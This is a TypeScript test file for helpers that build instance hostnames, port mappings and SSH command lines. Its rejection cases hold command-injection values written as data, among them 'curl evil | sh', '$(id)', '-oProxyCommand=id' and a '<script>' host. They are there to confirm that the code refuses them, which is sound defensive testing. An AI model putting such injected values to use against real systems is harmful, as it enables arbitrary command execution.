import fc from 'fast-check';
import { expect, test } from 'vitest';
import { instanceHostname, toPortMappings, sshCommandOf } from './hostnames.ts';

test('instanceHostname starts with the port and adds one label to the domain', () => {
  expect(instanceHostname('run.example.com', 'actual-bonsai-frog', 8080)).toBe(
    '8080-actual-bonsai-frog.run.example.com',
  );
});

test('instanceHostname returns null for a label that is too long', () => {
  const longest = `a-b-${'c'.repeat(53)}`;
  expect(instanceHostname('example.com', longest, 65_535)).toBe(`65535-${longest}.example.com`);
  expect(instanceHostname('example.com', `${longest}c`, 65_535)).toBeNull();
});

test('instanceHostname is unique per port and instance', () => {
  const word = fc.stringMatching(/^[a-z0-9]{1,8}$/);
  const name = fc.array(word, { minLength: 3, maxLength: 5 }).map((words) => words.join('-'));
  const named = fc.record({ name, port: fc.integer({ min: 1, max: 65_535 }) });
  fc.assert(
    fc.property(named, named, (one, other) => {
      const isSame = one.name === other.name && one.port === other.port;
      const names = [one, other].map((each) => instanceHostname('example.com', each.name, each.port));
      expect(names[0] === names[1]).toBe(isSame);
    }),
  );
});

test.each([
  [{ host: '203.0.113.7', port: 31_424, user: 'ubuntu' }, 'ssh ubuntu@203.0.113.7 -p 31424'],
  [{ host: '2001:db8::7', port: 22, user: 'root' }, 'ssh root@2001:db8::7 -p 22'],
  [{ host: 'gpu-7.example.com', port: 2200, user: 'ubuntu' }, 'ssh ubuntu@gpu-7.example.com -p 2200'],
])('sshCommandOf %j returns a command', (endpoint, line) => {
  expect(sshCommandOf(endpoint)).toBe(line);
});

test.each([
  { host: 'gpu.example.com; curl evil | sh', user: 'ubuntu' },
  { host: '$(id)', user: 'ubuntu' },
  { host: '-oProxyCommand=id', user: 'ubuntu' },
  { host: 'a b', user: 'ubuntu' },
  { host: 'fe80::1%eth0', user: 'ubuntu' },
  { host: '', user: 'ubuntu' },
  { host: 'gpu.example.com\nid', user: 'ubuntu' },
  { host: 'gpu.example.com', user: '-oProxyCommand=id' },
  { host: 'gpu.example.com', user: 'ubuntu;id' },
  { host: 'gpu.example.com', user: '' },
])('sshCommandOf returns null for the host $host and the user $user', (endpoint) => {
  expect(sshCommandOf({ ...endpoint, port: 22 })).toBeNull();
});

test('sshCommandOf returns null without an SSH endpoint', () => {
  expect(sshCommandOf(null)).toBeNull();
});

const open = {
  instanceName: 'actual-bonsai-frog',
  host: '203.0.113.7',
  ports: [{ internalPort: 8080, externalPort: 31_500 }],
};

test('toPortMappings returns hostnames, or addresses if the operator offers no hostnames', () => {
  expect(toPortMappings(open, 'run.example.com')).toEqual([
    { domain: '8080-actual-bonsai-frog.run.example.com', protocol: 'https', port: 8080 },
  ]);
  expect(toPortMappings(open, null)).toEqual([{ domain: '203.0.113.7', protocol: 'tcp', port: 31_500 }]);
  expect(toPortMappings({ ...open, host: '<script>' }, null)).toEqual([]);
});
